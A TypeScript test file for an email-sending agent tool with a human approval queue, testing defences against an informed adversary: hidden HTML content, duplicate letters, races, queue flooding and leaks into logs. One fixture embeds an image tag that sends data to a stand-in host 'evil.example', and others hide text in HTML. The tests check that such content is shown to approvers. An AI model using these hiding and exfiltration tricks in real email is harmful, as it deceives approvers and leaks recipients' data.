/** What somebody tries who knows the program, and its operator's habits. */
import { readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { Failure } from '../../src/core/failure.ts'
import { questionOf } from '../../src/engine/outbox/question.ts'
import type { Vault } from '../../src/ports/vault.ts'
import { type Scene, startScene } from './scene.ts'
import { openPlace, PERSON, WISH } from './vault-place.ts'

let scene: Scene
beforeAll(async () => {
  scene = await startScene()
})
afterAll(() => scene?.close())

const waitingId = (text: string): string => /Pending_Approval\/(\S+)\.md/.exec(text)?.[1] ?? ''

const UNSEEN: readonly (readonly [string, string])[] = [
  ['hidden text', '<p>Thanks!</p><div style="display:none">LOOT</div>'],
  ['a comment', '<p>Thanks!</p><!-- LOOT -->'],
  ['a picture', '<p>Thanks!</p><img src="https://evil.example/?LOOT">'],
  ['an attribute', '<p title="LOOT">Thanks!</p>'],
]

test.each(UNSEEN)('what an HTML version takes along unseen is shown: %s', async (name, html) => {
  const agent = await scene.agent()
  const { text } = await agent.say('send_email', { to: 'bob@example.com', subject: name, body: 'Thanks!', html })
  const id = waitingId(text)
  expect(await scene.read('Pending_Approval', `${id}.md`)).toContain('LOOT')
  const { stdout } = await scene.postern('outbox', id)
  expect(stdout).toContain('LOOT')
  expect(stdout).not.toContain('whose text is the same')
})

test('two letters that look alike are two questions', async () => {
  const place = await openPlace({ port: scene.sink.port })
  const files = ['one', 'two'].map((text) => ({ filename: 'a.txt', type: 'text/plain', text }))
  try {
    const asked: string[] = []
    for (const file of files) {
      const ending = await place.ask({ ...WISH, attached: [file] })
      const entry = ending.letter && (await place.parts.store.get(ending.letter.id))
      if (entry !== undefined) asked.push(questionOf(entry, true).text)
    }
    expect(new Set(asked).size).toBe(2)
  } finally {
    await place.close()
  }
})

test('what a person has said counts, and is told so, even where the vault cannot be written', async () => {
  const place = await openPlace({
    port: scene.sink.port,
    around: (name, part) =>
      name !== 'vault'
        ? part
        : new Proxy(part, {
            get: (target, key) =>
              key === 'move' ? () => Promise.reject(new Failure('unavailable', 'no')) : Reflect.get(target, key),
          }),
  })
  try {
    const { letter } = await place.ask(WISH)
    expect(await place.desk.approve(letter?.id ?? '', PERSON)).toMatchObject({ state: { kind: 'approved' } })
    expect(await place.ask(WISH)).toMatchObject({ kind: 'sent' })
    const other = await place.ask({ ...WISH, subject: 'Another' })
    expect(await place.desk.reject(other.letter?.id ?? '', PERSON, 'no')).toMatchObject({ state: { kind: 'rejected' } })
  } finally {
    await place.close()
  }
})

test('who comes too late for a file that was just used is not told to wait', async () => {
  let late: (() => Promise<unknown>) | undefined
  const place = await openPlace({
    port: scene.sink.port,
    around: (name, part) =>
      name !== 'vault'
        ? part
        : new Proxy(part, {
            get: (target, key) =>
              key === 'approvals' && late !== undefined
                ? async () => {
                    const first = late
                    late = undefined
                    await first?.()
                    return (target as unknown as Vault).approvals()
                  }
                : Reflect.get(target, key),
          }),
  })
  try {
    await place.ask(WISH)
    const [file = ''] = place.files('Pending_Approval')
    place.move(file, 'Pending_Approval', 'Approved')
    late = () => place.ask(WISH)
    expect(await place.ask(WISH)).toMatchObject({ kind: 'already_sent' })
    expect([place.files('Pending_Approval'), place.files('Done')]).toEqual([[], [file]])
  } finally {
    await place.close()
  }
})

test('nobody can fill the disk with letters that wait', async () => {
  const place = await openPlace({ port: scene.sink.port, accounts: ['work', 'home'] })
  const { store } = place.parts
  const queue = (subject: string, account = 'work') => {
    const { sending, messageId, bytes } = place.request({ ...WISH, account, subject })
    const times = { created: place.now, expires: place.now + 1000 }
    const names = { id: subject, digest: subject, bytesDigest: '', messageId }
    const entry = { ...names, sending, marks: [], ...times, state: { kind: 'waiting' } } as const
    return store.queue(entry, bytes, { messages: 10_000, bytes: 1024 ** 3 })
  }
  try {
    for (let at = 0; at < 1000; at += 100)
      await Promise.all(Array.from({ length: 100 }, (_, more) => queue(`a${at + more}`)))
    await expect(queue('one more')).rejects.toMatchObject({ code: 'unavailable', message: /wait already/ })
    expect(await queue('a7')).toMatchObject({ kind: 'known', entry: { id: 'a7' } })
    expect(await queue('of another', 'home')).toMatchObject({ kind: 'queued', entry: { id: 'of another' } })
    place.now += 1000
    expect(await queue('one more')).toMatchObject({ kind: 'queued', entry: { id: 'one more' } })
  } finally {
    await place.close()
  }
})

test('what is forgotten of an account is gone from the vault as well', async () => {
  const agent = await scene.agent()
  const letter = (subject: string) => ({ to: 'bob@example.com', subject, body: `${subject} KEPT` })
  const [sent, open] = [letter('over'), letter('open')]
  const id = waitingId((await agent.say('send_email', sent)).text)
  const waiting = waitingId((await agent.say('send_email', open)).text)
  await scene.move(`${id}.md`, 'Pending_Approval', 'Approved')
  expect((await agent.say('send_email', sent)).text).toContain('sent successfully')
  await writeFile(join(scene.vault, 'Done', 'mine.md'), 'a person wrote this')
  expect(await scene.files('Done')).toEqual([`${id}.md`, 'mine.md'])
  const { stdout } = await scene.postern('forget', 'default', '--yes')
  expect(stdout).toContain('1 letter of the outbox')
  expect(await scene.files('Done')).toEqual(['mine.md'])
  expect(await scene.files('Pending_Approval')).toContain(`${waiting}.md`)
})

test('nothing of a letter is in the log', async () => {
  const folder = join(scene.directory, 'logs')
  const logs = await Promise.all((await readdir(folder)).map((name) => readFile(join(folder, name), 'utf8')))
  expect(logs.join('')).toContain('send_email')
  expect(logs.join('')).not.toMatch(/LOOT|KEPT|bob@example\.com/)
})
